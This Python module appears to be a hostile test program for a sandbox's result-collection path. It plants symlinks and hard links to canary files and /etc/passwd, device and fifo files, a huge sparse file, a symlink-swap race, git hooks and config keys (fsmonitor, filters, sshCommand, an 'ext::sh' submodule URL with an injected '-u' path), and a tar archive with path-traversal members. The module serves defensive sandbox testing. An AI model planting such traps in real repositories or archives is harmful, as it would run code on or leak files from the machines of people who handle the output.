"""Tries to harm whoever takes its results: links, special files, huge files, traps for git, hostile archives."""

import ctypes
import io
import os
import socket
import stat
import subprocess
import tarfile
import time
from collections.abc import Callable

from control_plane.sandboxes.hostile.programs.loot import Canaries, Loot, done, up


def _out(name: str) -> str:
    return os.path.join(os.environ["FACTORY_OUT"], name)


def _planted(loot: Loot, what: str, action: Callable[[], object]) -> None:
    """Planting is not gained; the outside looks what it takes."""
    try:
        action()
        loot.tried[what] = "planted"
    except OSError as error:
        loot.tried[what] = str(error)


def result_links(canaries: Canaries) -> Loot:
    loot = Loot()
    target = canaries["files"][0]
    folder = os.path.dirname(target)
    _planted(loot, "absolute", lambda: os.symlink(target, _out("absolute")))
    _planted(loot, "relative", lambda: os.symlink("../" * 12 + target[1:], _out("relative")))
    _planted(loot, "folder", lambda: os.symlink(folder, _out("folder")))
    _planted(loot, "process", lambda: os.symlink("/proc/self/root" + target, _out("process")))
    _planted(loot, "descriptor", lambda: os.symlink("/proc/self/fd/0", _out("descriptor")))
    _planted(loot, "passwd", lambda: os.symlink("/etc/passwd", _out("passwd")))
    _planted(loot, "chain", lambda: os.symlink("absolute", _out("chain")))
    _planted(loot, "loop", lambda: os.symlink("loop", _out("loop")))
    return loot


def result_hard_links(canaries: Canaries) -> Loot:
    loot = Loot()
    for number, path in enumerate([*canaries["files"], "/etc/passwd", "/etc/hosts", "/usr/bin/env"]):
        what = "hard" + str(number)
        loot.attempt(path, done, os.link, path, _out(what))
        loot.attempt(path + " followed", _follow, path, what)
    return loot


def _follow(path: str, what: str) -> bool:
    os.symlink(path, _out(what + "-link"))
    os.link(_out(what + "-link"), _out(what + "-hard"), follow_symlinks=True)
    return stat.S_ISREG(os.lstat(_out(what + "-hard")).st_mode)


def result_specials(canaries: Canaries) -> Loot:
    loot = Loot()
    _planted(loot, "fifo", lambda: os.mkfifo(_out("fifo")))
    _planted(loot, "socket", lambda: socket.socket(socket.AF_UNIX).bind(_out("socket")))
    _planted(loot, "device", lambda: os.mknod(_out("device"), 0o20666, os.makedev(1, 5)))
    _planted(loot, "directory", lambda: os.makedirs(_out("directory") + "/in"))
    return loot


def huge_sparse_result(canaries: Canaries) -> Loot:
    loot = Loot()
    with open(_out("huge"), "wb") as file:
        file.write(b"begin")
    for size in (1 << 40, 3 << 30, 1 << 29, 1 << 26):
        loot.attempt(str(size) + " bytes", os.truncate, _out("huge"), size)
        if os.path.getsize(_out("huge")) == size:
            break
    return loot


def swapping_results(canaries: Canaries) -> Loot:
    """A file that becomes a link to a secret and back, faster than anybody can look."""
    target, name, beside = canaries["files"][0], _out("swapped"), _out("beside")
    with open(name, "w") as file:
        file.write("fine")
    up()
    while True:
        os.symlink(target, beside)
        os.replace(beside, name)
        _write(beside)
        os.replace(beside, name)


def _write(path: str) -> None:
    with open(path, "w") as file:
        file.write("fine")


def replaced_folders(canaries: Canaries) -> Loot:
    """The very folders that are collected and removed become links to the host's."""
    loot = Loot()
    target = os.path.dirname(canaries["files"][0])
    for name in ("FACTORY_OUT", "TMPDIR", "HOME", "PWD"):
        loot.attempt("replace " + name, _replaced, os.environ.get(name) or os.getcwd(), target)
    return loot


def _replaced(folder: str, target: str) -> str:
    """That it works is not gained; the outside looks what it collects and removes then."""
    os.rename(folder, folder + ".away")
    os.symlink(target, folder)
    return ""


def locked_trees(canaries: Canaries) -> Loot:
    loot = Loot()
    for folder in (".", os.environ["HOME"], os.environ["TMPDIR"], os.environ["FACTORY_OUT"]):
        inner = os.path.join(folder, "locked", "in", "deeper")
        os.makedirs(inner)
        with open(os.path.join(inner, "file"), "w") as file:
            file.write("x")
        for path in (os.path.join(inner, "file"), inner, os.path.dirname(inner), os.path.join(folder, "locked")):
            os.chmod(path, 0)
        loot.tried[folder] = "locked"
    libc = ctypes.CDLL(None)
    libc.umask(0o777)
    _planted(loot, "unreadable workspace", lambda: os.chmod(".", 0))
    return loot


def git_traps(canaries: Canaries) -> Loot:
    """Everything git may run by itself, set to leave a mark outside where only the outside can."""
    loot = Loot()
    fire = "touch " + canaries["fired"] + "/fired"
    subprocess.run(["git", "init", "-q", "."], check=True)
    hooks = ".git/hooks"
    os.makedirs(hooks, exist_ok=True)
    for hook in (
        "pre-commit",
        "post-index-change",
        "post-checkout",
        "reference-transaction",
        "pre-auto-gc",
        "post-merge",
    ):
        _script(os.path.join(hooks, hook), fire)
    with open(".git/config", "a") as file:
        file.write(_settings(fire))
    with open(".gitattributes", "w") as file:
        file.write("* filter=trap diff=trap merge=trap\n")
    with open(".gitmodules", "w") as file:
        file.write(
            '[submodule "x"]\n\tpath = -u./fire\n\turl = ext::sh -c '
            + fire.replace(" ", "% ")
            + "\n\tupdate = !"
            + fire
            + "\n"
        )
    with open("content.txt", "w") as file:
        file.write("work of the agent\n")
    os.makedirs("nested")
    subprocess.run(["git", "init", "-q", "nested"], check=True)
    with open("nested/.git/config", "a") as file:
        file.write(_settings(fire))
    loot.tried["git"] = "hooks, fsmonitor, filters, textconv, submodules, nested repository planted"
    _bundle(loot)
    return loot


def _settings(fire: str) -> str:
    quoted = '"' + fire + ' #"'
    keys = ["[core]", "fsmonitor = " + quoted, "sshCommand = " + quoted, "pager = " + quoted, "editor = " + quoted]
    keys += ['[filter "trap"]', "clean = " + quoted, "smudge = " + quoted, "required = false"]
    keys += ['[diff "trap"]', "textconv = " + quoted, "command = " + quoted, "[diff]", "external = " + quoted]
    keys += ["[gpg]", "program = " + quoted, "[uploadpack]", "packObjectsHook = " + quoted]
    return "\n".join(keys) + "\n"


def _script(path: str, line: str) -> None:
    with open(path, "w") as file:
        file.write("#!/bin/sh\n" + line + "\n")
    os.chmod(path, 0o755)


def _bundle(loot: Loot) -> None:
    """Made as the factory makes it, inside; with settings that the planted ones do not reach."""
    safe = ["git", "-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null", "-c", "commit.gpgSign=false"]
    safe += ["-c", "user.name=a", "-c", "user.email=a@localhost"]
    for words in (
        ["add", "-f", "content.txt", ".gitattributes", ".gitmodules"],
        ["commit", "-qm", "agent"],
        ["bundle", "create", "-q", _out("result.bundle"), "HEAD"],
    ):
        done = subprocess.run([*safe, *words], capture_output=True, text=True, check=False, timeout=20)
        loot.facts[words[0]] = done.returncode


def hostile_archive(canaries: Canaries) -> Loot:
    loot = Loot()
    target = canaries["files"][0]
    with tarfile.open(_out("results.tar"), "w") as archive:
        for name in ("../escaped", "/" + canaries["fired"].strip("/") + "/escaped", "a/../../escaped"):
            _member(archive, name, tarfile.REGTYPE)
        _member(archive, "link", tarfile.SYMTYPE, os.path.dirname(target))
        _member(archive, "link/escaped", tarfile.REGTYPE)
        _member(archive, "hard", tarfile.LNKTYPE, target)
        _member(archive, "device", tarfile.CHRTYPE)
        _member(archive, "fifo", tarfile.FIFOTYPE)
        _member(archive, "fine.txt", tarfile.REGTYPE)
    loot.tried["archive"] = "made"
    return loot


def _member(archive: tarfile.TarFile, name: str, kind: bytes, link: str = "") -> None:
    member = tarfile.TarInfo(name)
    member.type, member.linkname, member.mode = kind, link, 0o6777
    member.size = 6 if kind == tarfile.REGTYPE else 0
    member.mtime = int(time.time())
    archive.addfile(member, io.BytesIO(b"escape"))
